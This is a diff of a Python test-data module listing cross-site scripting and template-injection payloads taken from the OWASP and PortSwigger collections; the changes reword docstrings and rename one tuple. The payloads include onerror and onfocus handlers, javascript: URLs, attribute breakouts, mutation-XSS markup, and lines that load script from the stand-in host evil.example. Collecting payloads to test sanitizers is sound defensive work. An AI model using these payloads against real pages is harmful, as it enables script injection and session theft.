@@ -1,6 +1,6 @@
-"""Ways to smuggle a script into a page, by technique: those that OWASP's and PortSwigger's collections tell of.
+"""Texts that inject scripts, by technique, after the collections of OWASP and PortSwigger.
 
-`run()` is what each would do; a page that is looked at has one that tells on it. `evil.example` is who would be asked.
+Each calls `run()`, whose calls the tests record, or sends a request to `evil.example`.
 """
 
 from __future__ import annotations
@@ -53,7 +53,7 @@ _ELEMENTS: Final = (
     f"<div style='background:url({_SRC})'>x</div>",
     f"<p style=\"background-image:url('{_SRC}')\">x</p>",
 )
-"""Elements that run or load something by themselves."""
+"""Elements that run a script or load a file."""
 
 _HANDLERS: Final = (
     "<img src=x onerror=run()>",
@@ -86,7 +86,7 @@ _HANDLERS: Final = (
     "<xss onfocus=run() autofocus tabindex=1>x</xss>",
     "<math href=javascript:run()>x</math>",
 )
-"""Handlers of events, as they come to pass by themselves or by what a reader does."""
+"""Handlers of events, with and without user interaction."""
 
 _ADDRESSES: Final = (
     "javascript:run()",
@@ -110,9 +110,9 @@ _ADDRESSES: Final = (
     "//evil.example/x.js",
     'files/"><script>run()</script>',
 )
-"""What an address may be."""
+"""Addresses."""
 
-_ENDS: Final = (
+_BREAKOUTS: Final = (
     '"><script>run()</script>',
     "'><script>run()</script>",
     '" autofocus onfocus=run() x="',
@@ -134,7 +134,7 @@ _ENDS: Final = (
     "\ufeff<script>run()</script>",
     "\uff1cscript\uff1erun()\uff1c/script\uff1e",
 )
-"""Ways out of an attribute, of a comment, of an element whose text is no markup, and of an encoding."""
+"""Texts that close an attribute, a comment or a raw text element, or use another encoding."""
 
 _MARKDOWN: Final = (
     "[x](javascript:run())",
@@ -160,7 +160,7 @@ _MARKDOWN: Final = (
     "<a href=//evil.example ping=//evil.example>x</a>",
     "<details><summary>x</summary><img src=x onerror=run()></details>",
 )
-"""Markdown, and HTML within it."""
+"""Markdown, also with HTML."""
 
 _MATHEMATICS: Final = (
     "$\\href{javascript:run()}{x}$",
@@ -175,7 +175,7 @@ _MATHEMATICS: Final = (
     '<svg></p><style><a id="</style><img src=x onerror=run()>">',
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
 )
-"""LaTeX, MathML, and markup that changes its meaning when it is read twice."""
+"""LaTeX, MathML, and markup whose meaning changes when it is parsed again."""
 
 _TEMPLATES: Final = (
     "{{ 7*7 }}{{ self.__init__.__globals__ }}",
@@ -185,13 +185,13 @@ _TEMPLATES: Final = (
     "#{run()}",
     "<%= run() %>",
 )
-"""Languages of templates."""
+"""Template languages."""
 
 VECTORS: Final = (
     *_ELEMENTS,
     *_HANDLERS,
     *_ADDRESSES,
-    *_ENDS,
+    *_BREAKOUTS,
     *_MARKDOWN,
     *_MATHEMATICS,
     *_TEMPLATES,
